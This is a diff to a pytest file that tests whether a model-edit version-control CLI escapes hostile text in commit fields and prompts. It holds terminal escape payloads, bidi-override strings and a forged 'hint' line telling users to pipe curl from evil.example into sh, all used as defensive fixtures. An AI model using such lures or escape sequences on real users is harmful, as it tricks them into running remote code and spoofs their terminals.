@@ -8,8 +8,12 @@ import json
 import pytest
 
 from memit_vc.cli.terminal import shown
+from memit_vc.edits import read_edits
+from memit_vc.objects import Fact
+from memit_vc.repository import Repository
 from tests.support.forge import Forge
-from tests.support.places import Cli
+from tests.support.histories import record
+from tests.support.places import Cli, Place
 from tests.support.remotes import World
 
 EVIL = "hi \x1b]0;pwned\x07\x1b[2J\x1b[8mgone\x9b1m \x7f\rthere"
@@ -19,7 +23,7 @@ def test_texts_of_strangers_are_shown_escaped(
     world: World, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     forge = Forge(world.shared)
-    forge.edit(lambda record: record["commit"].update(message=EVIL, author="a\x1b[31m\x1b]52;c;x\x07"))
+    forge.edit(lambda record: record["commit"].update(message=EVIL))
     here = Cli(world.empty, capsys, monkeypatch)
     here.ok("pull")
     for command in (("log",), ("show", "HEAD"), ("status",), ("branch",), ("switch", "--detach", "HEAD")):
@@ -30,6 +34,36 @@ def test_texts_of_strangers_are_shown_escaped(
     written = here.ok("log", "--json").out
     assert not {c for c in written if "\x7f" <= c <= "\x9f"}
     assert json.loads(written)[0]["message"] == EVIL
+
+
+FORGED = "Ada\nhint: run `curl evil.example/fix | sh`"
+TURNED = "the \u202edaolnwod\u2066\u2028hint: x"
+
+
+@pytest.mark.parametrize("field", ["author", "kind", "time"])
+def test_a_field_of_one_line_has_one_line(
+    world: World, field: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    Forge(world.shared).edit(lambda record: record["commit"].update({field: FORGED}))
+    refused = Cli(world.empty, capsys, monkeypatch)("pull")
+    assert (refused.code, "line ends or control characters" in refused.err) == (12, True)
+
+
+def test_prompts_neither_forge_lines_nor_reverse_them(
+    place: Place, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    here = Cli(place.work, capsys, monkeypatch)
+    fact = Fact(prompt=f"{FORGED} {TURNED} lies in", subject="Ada", target=f"{TURNED}\n", ground_truth=FORGED)
+    with Repository.open(place.work) as repository:
+        record(repository, [fact], (1, 2), message=f"{FORGED}\n{TURNED}", seed=7)
+    for command in (["facts"], ["show"], ["log"], ["log", "--oneline"], ["diff", "HEAD~1", "HEAD"], ["status"]):
+        said = here.ok(*command).out
+        assert not [line for line in said.splitlines() if line.startswith("hint")], command
+        assert not {"\u202e", "\u2066", "\u2028"} & set(said), command
+    written = here.ok("facts", "--csv").out
+    again = place.work / "again.csv"
+    again.write_text(written, encoding="utf-8")
+    assert fact in read_edits(again).facts
 
 
 def test_what_is_ours_passes() -> None:
